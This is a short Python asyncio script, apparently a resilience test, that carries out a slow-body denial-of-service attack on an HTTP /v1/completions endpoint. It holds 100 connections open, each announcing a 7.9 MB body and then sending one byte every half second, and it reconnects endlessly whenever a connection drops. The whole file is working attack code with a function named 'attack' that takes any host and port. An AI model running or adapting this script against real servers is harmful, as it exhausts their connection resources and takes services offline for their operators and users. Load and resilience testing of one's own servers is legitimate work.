"""Bodies that are announced and come a byte at a time: each would hold a connection and what it has sent so far."""

import asyncio
from contextlib import suppress

CONNECTIONS = 100
HEAD = (
    b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 7900000\r\n\r\n"
)


async def attack(host: str, port: int) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                try:
                    writer.write(HEAD + b'{"prompt": "')
                    while not writer.is_closing():
                        writer.write(b"a")
                        await writer.drain()
                        await asyncio.sleep(0.5)
                finally:
                    writer.close()
            await asyncio.sleep(1)

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(one())
            await asyncio.sleep(0.01)
